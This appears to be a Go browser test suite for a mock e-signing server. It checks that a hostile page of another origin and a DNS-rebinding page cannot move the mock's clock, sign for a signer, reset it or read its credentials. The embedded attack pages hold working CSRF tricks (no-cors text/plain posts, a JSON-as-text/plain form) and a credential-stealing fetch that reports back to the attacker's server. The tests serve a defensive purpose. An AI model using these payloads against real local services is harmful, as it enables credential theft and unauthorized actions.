package browser_test

import (
	"fmt"
	"html/template"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/signkit/signkit-go/mockserver"
	"github.com/signkit/signkit-go/mockserver/internal/testkit"
)

// hostilePage is a page of another origin that tries to drive the mock
// open in the same browser: no-cors fetches with text/plain bodies (no
// preflight), auto-submitted forms (one posting JSON as text/plain), a
// read of the credentials, and reset last. It sends what it saw to its
// own server, as an attacker would, and then sets its title to "done".
var hostilePage = template.Must(template.New("hostile").Parse(`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>a page on another port</title></head><body>
{{range .Forms}}<iframe name="frame-{{.ID}}"></iframe>
<form id="form-{{.ID}}" method="post" action="{{$.Mock}}{{.Path}}" target="frame-{{.ID}}"{{if .TextPlain}} enctype="text/plain"{{end}}>
{{range $k, $v := .Fields}}<input type="hidden" name="{{$k}}" value="{{$v}}">{{end}}</form>
{{end}}
<script>
const mock = {{.Mock}}, report = {};
const submit = id => new Promise(done => {
  const frame = document.querySelector('iframe[name="frame-' + id + '"]');
  const timer = setTimeout(() => { report['form ' + id] = 'no answer'; done(); }, 5000);
  frame.onload = () => { clearTimeout(timer); report['form ' + id] = 'submitted'; done(); };
  document.getElementById('form-' + id).submit();
});
const post = async (what, path, body) => {
  try {
    await fetch(mock + path, {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body});
    report['fetch ' + what] = 'sent';
  } catch (e) { report['fetch ' + what] = 'error ' + e; }
};
(async () => {
  await post('advance', '/mock/clock/advance', '{"seconds":864000}');
  await post('sign', {{.Sign}}, '');
  for (const id of ['advance', 'sign', 'ui-sign', 'ui-clock']) await submit(id);
  try { const r = await fetch(mock + '/mock/credentials'); report.credentials = r.status + ' ' + await r.text(); }
  catch (e) { report.credentials = 'not read: ' + e; }
  try { const r = await fetch(mock + '/mock/credentials', {mode: 'no-cors'}); report.credentialsNoCors = r.type + ' [' + await r.text() + ']'; }
  catch (e) { report.credentialsNoCors = 'not read: ' + e; }
  await post('reset', '/mock/reset', '');
  await submit('reset');
  await fetch('/report', {method: 'POST', body: JSON.stringify(report)});
  document.title = 'done';
})();
</script></body></html>`))

// hostileForm is one auto-submitted form of hostilePage.
type hostileForm struct {
	ID, Path  string
	TextPlain bool // enctype text/plain: a field name and value that make JSON
	Fields    map[string]string
}

// A page on another local origin, open in a real Chromium, tries to move
// the mock's clock, sign as a signer (control API and dashboard), reset
// the mock and read its credentials: every write reaches the mock and is
// refused, so the mock is as it was, and the page learns nothing.
func TestBrowserHostilePageCannotDriveTheMock(t *testing.T) {
	t.Parallel()
	ctx := browser(t)
	s := mockserver.Start(t, mockserver.WithManualClock(testkit.Epoch))
	tok := testkit.Login(t, s, testkit.Credentials(s.DefaultCredentials()))
	id, _ := testkit.RunCase(t, s, tok, testkit.CaseDef("Ann:ann@example.com"), testkit.FilePart("doc.pdf", mockserver.SamplePDF("Contract text")))
	var signerID int64
	testkit.Inspect(s, id, func(cf *testkit.CaseFile) { signerID = cf.Signers[0].ID })
	signerStatus := func() int {
		st := -1
		testkit.Inspect(s, id, func(cf *testkit.CaseFile) {
			if cf != nil {
				st = cf.Signers[0].Status
			}
		})
		return st
	}
	before, beforeSigner, beforeStats := s.Now(), signerStatus(), s.Stats()
	sign := fmt.Sprintf("/mock/casefiles/%d/signers/%d/sign", id, signerID)

	var (
		mu      sync.Mutex
		reports []string
	)
	hostile := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/report" {
			b, _ := io.ReadAll(r.Body)
			mu.Lock()
			reports = append(reports, string(b))
			mu.Unlock()
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		err := hostilePage.Execute(w, map[string]any{"Mock": s.URL(), "Sign": sign, "Forms": []hostileForm{
			{ID: "advance", Path: "/mock/clock/advance", TextPlain: true, Fields: map[string]string{`{"seconds":864000,"pad":"`: `"}`}},
			{ID: "sign", Path: sign},
			{ID: "ui-sign", Path: "/mock/ui" + strings.TrimPrefix(sign, "/mock")},
			{ID: "ui-clock", Path: "/mock/ui/clock", Fields: map[string]string{"amount": "10", "unit": "days"}},
			{ID: "reset", Path: "/mock/reset"},
		}})
		if err != nil {
			t.Error(err)
		}
	}))
	t.Cleanup(hostile.Close)
	if hostile.URL == s.URL() {
		t.Fatal("the hostile page must be of another origin")
	}

	run(t, ctx, "open the hostile page", chromedp.Navigate(hostile.URL))
	run(t, ctx, "wait for its attempts", chromedp.Poll[bool](`document.title === 'done'`))
	mu.Lock()
	got := strings.Join(reports, "\n")
	mu.Unlock()
	t.Logf("the hostile page reports: %s", testkit.HideSecrets(got))
	if len(reports) != 1 {
		t.Fatalf("%d reports from the hostile page, want 1", len(reports))
	}
	for _, secret := range []string{s.DefaultCredentials().ClientSecret, s.DefaultCredentials().APISecret, s.DefaultCredentials().APIKey} {
		if strings.Contains(got, secret) {
			t.Error("the hostile page read the credentials")
		}
	}
	for _, want := range []string{`"credentials":"not read: TypeError`, `"credentialsNoCors":"opaque []"`, `"form reset":"submitted"`} {
		if !strings.Contains(got, want) {
			t.Errorf("the report lacks %s", want)
		}
	}

	// Nothing changed: the clock, the case file, its signer, what the mock
	// holds (a reset would have emptied it, and the journal with it).
	if !s.Now().Equal(before) {
		t.Errorf("the clock moved %v", s.Now().Sub(before))
	}
	if st := testkit.CaseStatus(s, id); st != 1 || signerStatus() != beforeSigner {
		t.Errorf("case file status %d, signer status %d (was %d): the page signed", st, signerStatus(), beforeSigner)
	}
	if st := s.Stats(); st != beforeStats {
		t.Errorf("the mock holds %+v, held %+v: the page reset it", st, beforeStats)
	}
	// Every write reached the mock and was refused 403 (the test would
	// prove nothing if the browser had not sent them).
	refused := map[string]int{}
	for _, e := range s.Requests() {
		if e.Method == http.MethodPost && e.Status == http.StatusForbidden {
			refused[e.Path]++
		}
	}
	for path, n := range map[string]int{"/mock/clock/advance": 2, sign: 2, "/mock/ui" + strings.TrimPrefix(sign, "/mock"): 1,
		"/mock/ui/clock": 1, "/mock/reset": 2} {
		if refused[path] != n {
			t.Errorf("POST %s refused %d times, want %d (journal: %v)", path, refused[path], n, refused)
		}
	}
}

// A page under a name of its own whose DNS answer changes to 127.0.0.1
// (DNS rebinding) reaches the mock as its own origin, so the Origin rule
// cannot stop it: the Host rule does. Chromium maps the name to 127.0.0.1
// throughout; the attacker's server gives its port up to the mock after
// the page has loaded, as a rebound name would lead there.
func TestBrowserDNSRebinding(t *testing.T) {
	t.Parallel()
	ctx := browser(t, chromedp.Flag("host-resolver-rules", "MAP rebound.test 127.0.0.1"))
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().String()
	attacker := &http.Server{ReadHeaderTimeout: 10 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Cache-Control", "no-store")
		_, _ = io.WriteString(w, `<!DOCTYPE html><html lang="en"><head><title>rebound</title></head><body><script>
window.steal = () => fetch('/mock/credentials', {cache: 'no-store'}).then(async r => r.status + ' ' + await r.text(), e => 'not read: ' + e);
window.advance = () => fetch('/mock/clock/advance', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"seconds":864000}'})
  .then(async r => r.status + ' ' + await r.text(), e => 'not sent: ' + e);
</script></body></html>`)
	})}
	go func() { _ = attacker.Serve(l) }()
	page := "http://rebound.test:" + addr[strings.LastIndex(addr, ":")+1:] + "/"
	run(t, ctx, "open the page under its own name", chromedp.Navigate(page))
	if err := attacker.Close(); err != nil { // its listener and connections
		t.Fatal(err)
	}

	// The mock on the same address: the name now leads to it.
	var ml net.Listener
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		if ml, err = net.Listen("tcp", addr); err == nil || time.Now().After(deadline) {
			break
		}
	}
	if err != nil {
		t.Fatalf("the mock cannot take the attacker's address: %v", err)
	}
	s := mockserver.New(mockserver.WithBaseURL("http://"+addr), mockserver.WithManualClock(testkit.Epoch))
	hs := s.HTTPServer()
	go func() { _ = hs.Serve(ml) }()
	t.Cleanup(func() { _ = hs.Close(); s.Close() })

	stolen := run(t, ctx, "read the credentials", chromedp.Evaluate[string](`steal()`, chromedp.EvalAwaitPromise))
	t.Logf("the page read: %.80s", testkit.HideSecrets(stolen))
	c := s.DefaultCredentials()
	if strings.Contains(stolen, c.ClientSecret) || strings.Contains(stolen, c.APISecret) {
		t.Error("the rebound page read the credentials")
	}
	if !strings.HasPrefix(stolen, "421 ") {
		t.Errorf("GET /mock/credentials from the rebound page: %.200s, want 421", testkit.HideSecrets(stolen))
	}
	moved := run(t, ctx, "advance the clock", chromedp.Evaluate[string](`advance()`, chromedp.EvalAwaitPromise))
	if !strings.HasPrefix(moved, "421 ") || !s.Now().Equal(testkit.Epoch) {
		t.Errorf("POST /mock/clock/advance from the rebound page: %.200s; the clock moved %v", moved, s.Now().Sub(testkit.Epoch))
	}
	// The requests did reach the mock.
	misdirected := map[string]int{}
	for _, e := range s.Requests() {
		if e.Status == http.StatusMisdirectedRequest {
			misdirected[e.Method+" "+e.Path]++
		}
	}
	// (Chromium sends a request again once after a 421, on a new connection.)
	if misdirected["GET /mock/credentials"] == 0 || misdirected["POST /mock/clock/advance"] == 0 {
		t.Errorf("answered 421: %v; want GET /mock/credentials and POST /mock/clock/advance", misdirected)
	}
	// The same browser at the mock's own address is served.
	run(t, ctx, "open the credentials at 127.0.0.1", chromedp.Navigate("http://"+addr+"/mock/credentials"))
	if st := status(t, ctx); st != http.StatusOK {
		t.Errorf("GET /mock/credentials at its own address: %d", st)
	}
}
